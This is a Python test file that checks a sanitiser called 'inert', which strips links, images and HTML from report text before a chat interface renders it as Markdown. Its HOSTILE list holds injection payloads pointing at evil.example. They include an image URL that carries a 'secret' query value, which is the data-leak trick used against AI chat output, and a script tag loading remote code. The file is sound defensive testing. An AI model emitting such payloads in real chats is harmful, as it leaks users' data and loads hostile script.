"""What reports and askers wrote makes no link, image or HTML in a chat that reads Markdown."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from service.channels.inert import inert

GITHUB = MarkdownIt("gfm-like", {"html": True, "linkify": True})
assert GITHUB.linkify is not None
GITHUB.linkify.set({"fuzzy_link": False, "fuzzy_email": False})  # as GitHub's own: no links of bare names
MADE = {"link_open", "image", "html_inline", "html_block"}

HOSTILE = [
    "![a picture](https://evil.example/?q=secret)",
    "[click here](https://evil.example)",
    "[click here](//evil.example/a 'title')",
    "[here](/logout)",
    "<img src=https://evil.example/a.png>",
    "<https://evil.example>",
    "see https://evil.example/a?b=c, or www.evil.example.",
    "[1]: https://evil.example",
    "- [1]: //evil.example",
    "1. > [1]: <https://evil.example> 'title'",
    "[1\n]: https://evil.example",
    "![pic][1] [here][1]\n\n[1]: https://evil.example/a.png",
    "a ` b `https://evil.example` c",
    "\\`https://evil.example\\`",
    "![a](<https://evil.example/a b>)",
    "[![a](https://evil.example/a)](https://evil.example/b)",
    "<!-- --><script src=//evil.example></script>",
    "HTTPS://EVIL.EXAMPLE and ftp://evil.example and //evil.example/x",
]
ORDINARY = [
    "The reports name 1 SME [1]:\n- Tarnwood Cells Ltd has spun off Tarnwood Imaging. [1][2]\nMore came [3]–[7].",
    "SMEs received 15.8 % of the funding; p < 0.05, R&D, x_1 and 3*4 stay. [1]",
]


def made_of(text: str) -> list[str]:
    """What a front end makes of the text besides text."""

    def within(tokens: list[Token]) -> Iterator[Token]:
        for token in tokens:
            yield token
            yield from within(token.children or [])

    return [token.type for token in within(GITHUB.parse(text)) if token.type in MADE]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_made_of_hostile_text(text: str) -> None:
    assert made_of(f"{text}\n\nSo it is. [1]")
    assert made_of(f"{inert(text)}\n\nSo it is. [1]") == []
    assert made_of(f"It is said: {inert(text)} [1]") == []


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, *"[]()<>!`\\:\n -*_", "[1]", "https:", "//e.example", "www.e.example", "a"]
        )
    )
)
def test_nothing_is_made_of_what_they_make_together(parts: list[str]) -> None:
    assert made_of(inert("".join(parts)) + "\n\nSo it is. [1]") == []
